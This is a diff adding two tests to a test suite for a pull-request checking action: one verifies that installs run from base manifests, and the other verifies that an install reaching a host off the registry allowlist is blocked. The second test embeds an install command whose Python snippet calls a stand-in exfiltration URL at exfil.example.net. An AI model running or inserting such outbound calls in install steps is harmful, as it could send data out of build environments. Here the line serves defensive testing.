@@ -131,6 +131,52 @@ describe('the action (dist/index.js) on a pull request', () => {
     expectInert(body);
   });
 
+  it('installs first (base manifests), runs the tests on what the install wrote, and reports the manifest change', async () => {
+    const { run, checks, comments } = await action('dependencies', {
+      number: 21,
+      inputs: {
+        // requirements.txt is new in the PR, so with install-from: base the install never sees it.
+        'install-command':
+          'test ! -e requirements.txt && mkdir -p build && echo \'{"ok": true}\' > build/installed.json',
+        'install-from': 'base',
+      },
+    });
+    expect(run.outputs, run.stdout.slice(-4000)).toMatchObject({
+      verdict: 'pass',
+      findings: '1',
+      'tests-passed': '3',
+      'tests-failed': '0',
+    });
+    expect(checks[0]).toMatchObject({ conclusion: 'success' });
+    const body = comments[0]?.body ?? '';
+    expect(body).toContain('requirements.txt');
+    expect(body).toMatch(/dependency\\?-manifest\\?-changed/);
+    expect(body).toMatch(/[Ii]nstall/);
+  });
+
+  it('blocks a PR whose install reaches for a host off the registry allowlist', async () => {
+    const { run, checks, comments } = await action('dependencies', {
+      number: 22,
+      inputs: {
+        'install-command': [
+          'python3 - <<"EOF" || true',
+          'import os, urllib.request',
+          'try:',
+          '    urllib.request.urlopen("https://exfil.example.net/upload", timeout=10)',
+          'except Exception as error:',
+          '    print("refused:", error)',
+          'EOF',
+          'mkdir -p build && echo \'{"ok": true}\' > build/installed.json',
+        ].join('\n'),
+      },
+    });
+    expect(run.outputs['verdict'], run.stdout.slice(-4000)).toBe('blocked');
+    // The same head commit as the test above: this run's check run is the newest.
+    expect(checks.at(-1)).toMatchObject({ conclusion: 'failure' });
+    const body = comments[0]?.body ?? '';
+    expect(body).toContain('exfil.example.net');
+  });
+
   it('gives a neutral check when no commit is AI-authored, without running tests', async () => {
     const { run, checks, comments } = await action('human', { number: 14 });
     expect(run.outputs).toMatchObject({ verdict: 'neutral', 'tests-passed': '0' });
